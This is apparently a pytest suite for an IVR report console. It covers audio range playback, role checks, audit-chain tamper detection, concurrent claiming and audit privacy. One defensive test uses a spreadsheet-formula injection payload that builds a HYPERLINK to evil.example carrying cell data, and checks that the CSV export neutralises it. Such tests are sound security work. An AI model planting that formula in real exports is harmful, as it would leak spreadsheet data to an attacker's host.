"""Audio plays by range for authorised handlers only; the audit trail shows tampering."""

from __future__ import annotations

import csv
import io
import threading
from datetime import date
from pathlib import Path
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select, text, update

from ivr.console.playback import RangeNotSatisfiable, parse_range
from ivr.models.audit import AuditEvent
from ivr.models.reports import AudioObject, Report, ReportSource, ReportStatus
from ivr.models.staff import Role, User
from ivr.outside.anchors import FileAnchors
from ivr.outside.audio import clean
from ivr.platform.db import Base, Database
from ivr.reports.workflow import claim_next
from ivr.services import services
from ivr.staff import audit
from ivr.staff.accounts import add_user
from tests.conftest import SAMPLES
from tests.console.conftest import csrf_token, post
from tests.staff.test_audit import KEY, plain_sha256, remove_newest, rewrite_and_recompute


def audio_url(db: Database, reference: str) -> str:
    with db.transaction() as session:
        report = session.scalars(select(Report).where(Report.reference == reference)).one()
        first = session.scalars(
            select(AudioObject).where(AudioObject.report_id == report.id)
        ).first()
        assert first is not None
        return f"/console/reports/{reference}/audio/{first.id}"


def test_the_recording_plays_whole_and_by_range(
    as_role: Any, db: Database, queued_report: str
) -> None:
    handler = as_role(Role.HANDLER)
    post(handler, "/console/take-next")  # a handler plays only what they hold
    url = audio_url(db, queued_report)
    whole = handler.get(url)
    expected = clean((SAMPLES / "report-en.wav").read_bytes()).wav
    assert whole.status_code == 200 and whole.data == expected
    assert (
        whole.headers["Accept-Ranges"] == "bytes" and whole.headers["Cache-Control"] == "no-store"
    )
    size = len(expected)
    for header, start, end in [
        ("bytes=0-99", 0, 99),
        ("bytes=65530-65545", 65530, 65545),  # across a chunk boundary
        (f"bytes={size - 10}-", size - 10, size - 1),
        ("bytes=-25", size - 25, size - 1),  # the last 25 bytes
        (f"bytes=100-{size + 5000}", 100, size - 1),  # an end past the file is cut short
    ]:
        part = handler.get(url, headers={"Range": header})
        assert part.status_code == 206, header
        assert part.headers["Content-Range"] == f"bytes {start}-{end}/{size}"
        assert part.data == expected[start : end + 1], header
    beyond = handler.get(url, headers={"Range": f"bytes={size}-"})
    assert beyond.status_code == 416
    assert handler.get(url, headers={"Range": "items=0-1"}).status_code == 416


def test_only_handlers_and_supervisors_can_play(
    as_role: Any, db: Database, queued_report: str
) -> None:
    url = audio_url(db, queued_report)
    for role in (Role.OPS, Role.ADMIN):
        assert as_role(role).get(url).status_code == 403


@pytest.mark.parametrize("header", ["bytes=", "bytes=5-2", "bytes=a-b", "bytes=0-1,5-6"])
def test_malformed_ranges_are_refused(header: str) -> None:
    with pytest.raises(RangeNotSatisfiable):
        parse_range(header, 1000)


def test_tampering_with_the_audit_trail_is_detected(db: Database) -> None:
    with db.transaction() as session:
        for index in range(5):
            audit.record(session, "handler-one", "view", f"R-AAAA-000{index}")
    audit.seal(db, KEY)
    assert audit.verify(db, KEY).ok and audit.verify(db, KEY).events == 5
    with db.engine.begin() as connection:  # someone edits an event in the database
        connection.execute(
            update(AuditEvent).where(AuditEvent.id == 3).values(actor="someone-else")
        )
    broken = audit.verify(db, KEY)
    assert (broken.ok, broken.first_bad) == (False, 3) and "changed" in broken.reason
    with db.engine.begin() as connection:  # ...or puts it back and removes one instead
        connection.execute(update(AuditEvent).where(AuditEvent.id == 3).values(actor="handler-one"))
        connection.execute(text("DELETE FROM audit_events WHERE id = 2"))
    assert (audit.verify(db, KEY).ok, audit.verify(db, KEY).first_bad) == (False, 3)


def test_removing_the_newest_events_is_detected(db: Database) -> None:
    with db.transaction() as session:
        for _ in range(3):
            audit.record(session, "admin-one", "user_add")
    audit.seal(db, KEY)
    with db.engine.begin() as connection:
        connection.execute(text("DELETE FROM audit_events WHERE id = 3"))
    assert "newest events were removed" in audit.verify(db, KEY).reason


@pytest.mark.postgresql
def test_many_handlers_claiming_at_once_never_share_a_report(postgres_url: str) -> None:
    db = Database.from_url(postgres_url, audit_key=KEY)
    Base.metadata.create_all(db.engine)
    with db.transaction() as session:
        handlers = [
            User(name=f"h{i}", role=Role.HANDLER, failed_sign_ins=0, session_epoch=0, active=True)
            for i in range(20)
        ]
        session.add_all(handlers)
        session.add_all(
            Report(
                received_on=date(2026, 11, 1),
                source=ReportSource.MENU,
                status=ReportStatus.QUEUED,
                queue_position=i,
            )
            for i in range(60)
        )
    with db.transaction() as session:
        users = list(session.scalars(select(User)))
    claims: list[str] = []
    errors: list[BaseException] = []
    start = threading.Barrier(len(users))

    def claimer(user: User) -> None:
        own = Database.from_url(postgres_url, audit_key=KEY)
        start.wait()
        try:
            while (report := claim_next(own, user)) is not None:
                claims.append(report)
        except BaseException as error:  # surfaced below, in the test's own thread
            errors.append(error)
        own.engine.dispose()

    threads = [threading.Thread(target=claimer, args=(user,)) for user in users]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert errors == []
    assert len(claims) == 60 and len(set(claims)) == 60  # every report claimed once, none twice


def test_the_audit_export_shows_formulas_as_text(
    ingest_app: Any, as_role: Any, db: Database
) -> None:
    # Given an account whose name is a spreadsheet formula, and a failed sign-in as it
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    with db.transaction() as session:
        add_user(session, formula, Role.HANDLER, "admin-one")
    attacker = ingest_app.test_client()
    attacker.post(
        "/console/sign-in",
        data={"csrf_token": csrf_token(attacker), "name": formula, "password": "x", "code": "1"},
    )
    # When an admin exports the audit trail
    exported = as_role(Role.ADMIN).get("/console/audit?export=csv").get_data(as_text=True)
    rows = list(csv.reader(io.StringIO(exported)))
    # Then the name is there, but as text a spreadsheet will not run
    actors = [row[2] for row in rows[1:]]
    assert "'" + formula in actors
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows[1:] for cell in row)


def test_nothing_anyone_typed_goes_into_the_audit_trail(
    ingest_app: Any, as_role: Any, db: Database, queued_report: str
) -> None:
    # Given a stranger typing a name at the sign-in form, and a report returned with a comment
    stranger = ingest_app.test_client()
    stranger.post(
        "/console/sign-in",
        data={
            "csrf_token": csrf_token(stranger),
            "name": "Jo Bloggs 07700 900461",
            "password": "x",
            "code": "1",
        },
    )
    with db.transaction() as session:
        report = session.scalars(select(Report).where(Report.reference == queued_report)).one()
        report.status, report.submitted_by = ReportStatus.SUBMITTED, None
    supervisor = as_role(Role.SUPERVISOR)
    page = f"/console/reports/{queued_report}"
    post(
        supervisor,
        f"{page}/review",
        {"decision": "return", "comment": "Remove Acacia Avenue"},
        page=page,
    )
    # Then the trail records who did what, by ids and action names only
    with db.transaction() as session:
        trail = [(e.actor, e.action, e.detail) for e in audit.events(session)]
    assert ("(unknown name)", "sign_in_failed", "") in trail
    assert ("supervisor-one", "return", "") in [(a, b, c) for a, b, c in trail]
    flat = repr(trail)
    assert "Jo Bloggs" not in flat and "Acacia" not in flat


def test_the_audit_page_checks_only_what_is_new_since_its_last_look(
    as_role: Any, db: Database
) -> None:
    supervisor = as_role(Role.SUPERVISOR)
    first = supervisor.get("/console/audit").get_data(as_text=True)
    assert "The chain is intact" in first
    with db.transaction() as session:
        audit.record(session, "admin-one", "user_add")
    second = supervisor.get("/console/audit").get_data(as_text=True)
    # The one event written since (plus the page's own sign-in view, if any) is checked
    assert "The chain is intact (1 new event checked" in second
    # A sealed event changed since the last look is still caught
    with db.transaction() as session:
        newest = session.scalars(select(AuditEvent).order_by(AuditEvent.seq.desc())).first()
        assert newest is not None
        newest.detail = "rewritten"
    assert "The chain is broken" in supervisor.get("/console/audit").get_data(as_text=True)


def test_the_audit_page_says_broken_after_a_rewrite(as_role: Any, ingest_app: Flask) -> None:
    supervisor = as_role(Role.SUPERVISOR)
    assert "The chain is intact" in supervisor.get("/console/audit").get_data(as_text=True)
    built = services(ingest_app)
    rewrite_and_recompute(built.db, 1, plain_sha256)
    # Both the page that has looked before (from its checkpoint) and a fresh one say so
    assert "The chain is broken" in supervisor.get("/console/audit").get_data(as_text=True)
    built.audit_checkpoint = None
    page = supervisor.get("/console/audit").get_data(as_text=True)
    assert "The chain is broken at event" in page and "changed after it was sealed" in page


def test_the_audit_page_says_broken_after_the_newest_events_are_removed(
    as_role: Any, ingest_app: Flask, tmp_path: Path
) -> None:
    built = services(ingest_app)
    built.audit_trail.anchors = FileAnchors(tmp_path / "anchors.jsonl")
    supervisor = as_role(Role.SUPERVISOR)
    assert "The chain is intact" in supervisor.get("/console/audit").get_data(as_text=True)
    anchored = built.audit_trail.anchors.read()[-1].seq  # the page anchors when one is due
    remove_newest(built.db, keep=anchored - 2)
    assert "The chain is broken" in supervisor.get("/console/audit").get_data(as_text=True)
    built.audit_checkpoint = None
    page = supervisor.get("/console/audit").get_data(as_text=True)
    assert "The chain is broken" in page and "newest events were removed" in page
